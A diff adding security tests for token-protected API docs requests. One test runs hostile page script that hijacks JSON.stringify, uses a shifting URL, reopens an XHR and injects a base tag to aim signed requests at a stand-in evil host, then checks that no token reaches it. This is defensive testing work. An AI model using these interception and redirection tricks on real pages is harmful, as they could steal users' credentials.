@@ -204,6 +204,73 @@ describe('security: API reference authentication', () => {
     expect(request?.body).not.toContain(token);
   });
 
+  test('later page scripts cannot redirect a signed request', async () => {
+    const token = await signInAsAlice();
+    await setAuthenticateDocs(true);
+    const page = await openSignedInDocs();
+
+    const captured = await page.evaluate(
+      async ({ proxyPath, evil, url }) => {
+        const envelope = JSON.stringify({ method: 'GET', url, header: {}, query: {} });
+        // A script that runs after the injection replaces JSON.stringify to read what it signs.
+        const seen: string[] = [];
+        const { stringify } = JSON;
+        JSON.stringify = ((value: unknown) => {
+          const text = stringify(value);
+          seen.push(text);
+          return text;
+        }) as typeof JSON.stringify;
+        // A URL whose text changes between the check and the request.
+        let reads = 0;
+        const shifty = { toString: () => (reads++ === 0 ? proxyPath : `${evil}/shifty`) };
+        await fetch(shifty as unknown as string, { method: 'POST', body: envelope });
+        // An XHR whose second open fails after the first named another host.
+        const request = new XMLHttpRequest();
+        request.open('POST', `${evil}/reopened`);
+        try {
+          request.open('BAD METHOD', proxyPath);
+        } catch {
+          // The failed open leaves the request aimed at the first URL.
+        }
+        await new Promise((resolve) => {
+          request.onloadend = resolve;
+          request.send(envelope);
+        });
+        // Injected markup that moves relative URLs to another host.
+        const base = document.createElement('base');
+        base.href = `${evil}/`;
+        document.head.append(base);
+        await fetch(proxyPath, { method: 'POST', mode: 'no-cors', body: envelope });
+        JSON.stringify = stringify;
+        return seen.join('\n');
+      },
+      { proxyPath: MINTLIFY_PROXY_PATH, evil: EVIL_ORIGIN, url: PROJECTS_URL },
+    );
+    expect(captured).not.toContain(token);
+    const atEvil = env.studio.requestsTo(EVIL_HOST);
+    expect(atEvil.map((request) => request.path).sort()).toEqual([
+      MINTLIFY_PROXY_PATH,
+      '/reopened',
+    ]);
+    expect(JSON.stringify(atEvil)).not.toContain(token);
+  });
+
+  test('a page the background cannot reach stops at the session end', async () => {
+    env.studio.setTokenLifetime(63);
+    const token = await signInAsAlice();
+    await setAuthenticateDocs(true);
+    const page = await openSignedInDocs();
+    expect(await tryItThroughProxy(page, PROJECTS_URL)).toBe(200);
+    expect(tokenAtStudio()).toBe(token);
+
+    // Without host access the background cannot clear the page when the session ends.
+    await env.browser.withholdSiteAccess();
+    await new Promise((resolve) => setTimeout(resolve, 4_000));
+    env.studio.clearRequests();
+    await tryItThroughProxy(page, PROJECTS_URL);
+    expect(tokenAtStudio()).toBeUndefined();
+  });
+
   test('a page restored after sign-out sends no token', async () => {
     await signInAsAlice();
     await setAuthenticateDocs(true);
